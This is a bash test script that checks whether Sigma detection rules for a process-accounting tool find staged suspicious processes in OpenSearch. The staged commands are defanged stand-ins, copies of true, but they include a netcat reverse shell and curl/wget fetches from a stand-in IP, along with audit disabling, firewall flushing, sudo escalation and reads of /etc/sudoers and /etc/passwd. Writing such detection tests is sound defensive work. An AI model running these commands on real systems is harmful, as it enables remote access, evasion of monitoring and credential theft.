#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Intent: contrib/sigma, as it is shipped: rules in Sigma's format find in OpenSearch what they describe.
# Invariant: of staged attacks, each rule finds both messages of the processes that it is about and no others; one that
# asks for what the messages lack is refused. With SIGMA_RULES=DIR, what the rules there find of these attacks is printed.
# Oracle: what is executed here. What could do harm, or is not installed, is a copy of true with its name.
. "${srcdir:=$(dirname "$0")/..}/stores/stores.sh"
require_accounting
# shellcheck source=/dev/null
. "$srcdir/stores/server-${SEARCH_SERVER:-opensearch}.sh"
SIGMA=$TOP/.build/stores/sigma/bin/python
[ -x "$SIGMA" ] || skip_test "no pySigma; tests/destinations gets it"
STAGE=$(mktemp -d /dev/shm/impacct-sigma.XXXXXX)
stands_in() {
    local name
    for name; do cp /bin/true "$STAGE/$name"; done
}
stands_in auditctl chattr crontab curl iptables nc nmap systemctl userdel usermod wget
executed ecs "$WORK/executed.jsonl" <<SH2
python3 -c 'import subprocess; subprocess.run(["sh", "-c", "true; true"])'
sh -c '/bin/echo dHJ1ZQ== | base64 -d | sh'
$STAGE/nmap --known
$STAGE/curl -sL http://192.0.2.1/x
bash -c 'true; true' --password=hunter2
cd / && setpriv --reuid nobody --clear-groups find /dev/null
cd "$WORK"
$STAGE/auditctl -D
$STAGE/chattr -i /etc/passwd
$STAGE/crontab -r
$STAGE/iptables -F
$STAGE/nc -e /bin/sh 192.0.2.1 4444
$STAGE/systemctl stop auditd
$STAGE/userdel somebody
$STAGE/usermod -aG sudo somebody
$STAGE/wget -O /tmp/x http://192.0.2.1/x
awk 'BEGIN { system("/bin/sh -c true") }'
awk 'BEGIN {system("/bin/sh -c true")}'
base64 -d /dev/null
cat /etc/sudoers
chmod 777 /tmp/impacct-nothing 2>/dev/null
cp /etc/passwd "$STAGE/passwd"
dd if=/dev/null of=/proc/self/mem 2>/dev/null
env /bin/sh -c true
find "$WORK" -perm -4000
find . -exec /bin/sh -c true \; -quit
grep -r x86_64 /etc/hostname
mkfifo "$STAGE/fifo"
nice /bin/sh -c true
nohup true >/dev/null 2>&1
python3 -c 'import pty; pty.spawn("/bin/true")' </dev/null >/dev/null
python3 -c 'import socket, os; s = socket.socket(); os.dup2(1, 1)'
rm -f "$STAGE/fifo"
touch -t 200001010000 "$STAGE/passwd"
uname -a >/dev/null
whoami >/dev/null
true
SH2
rm -rf "$STAGE"
start_search
assert_eq "$(search_template | api _index_template/processes -X PUT --data-binary @-)" '{"acknowledged":true}' "the template"
jq -c '{index: {_index: "processes-test", _id: .event.id}}, .' "$WORK/executed.jsonl" >"$WORK/bulk"
assert_eq "$(api '_bulk?refresh=true' -X POST --data-binary "@$WORK/bulk" | jq .errors)" false "errors of the bulk request"
find_rules() { "$SIGMA" "$srcdir/stores/rules.py" "$URL" "$TOP/contrib/sigma/impacct.yml" "$1"; }
find_rules "$srcdir/stores/sigma_rules" >"$WORK/found.jsonl" || error_exit "see above"
if [ -n "${SIGMA_RULES:-}" ]; then
    find_rules "$SIGMA_RULES" | jq -r '"\(.error // (.found | length)): \(.title): \([.found[]?[1]] | unique | join(" ;; "))"'
fi
# the command lines that a rule finds, each of which has to come of the exec and of the exit
lines_of_rule() {
    jq -r --arg title "$1" 'select(.title == $title) | .error // (.found | group_by(.[1])[] | "\(map(.[0]) | join(" ")): \(.[0][1])")' \
        "$WORK/found.jsonl"
}
finds() { assert_eq "$(lines_of_rule "$1")" "$2" "what '$1' finds"; }
finds "An interpreter starts a shell" "exec exit: sh -c 'true; true'"
finds "Something is decoded and executed" "exec exit: sh -c '/bin/echo dHJ1ZQ== | base64 -d | sh'"
finds "A password among the parent's arguments" ""
finds "Somebody looks for a file in the root directory" "exec exit: find /dev/null"
finds "What the messages do not have" "impacct's messages do not have what this rule asks for"
for name in nmap:0 curl:1 auditctl:1 userdel:1; do
    assert_eq "$(lines_of_rule "A program in a world-writable directory" | grep -c "^exec exit: $STAGE/${name%:*} ")" "${name#*:}" "$name"
done
exit_test
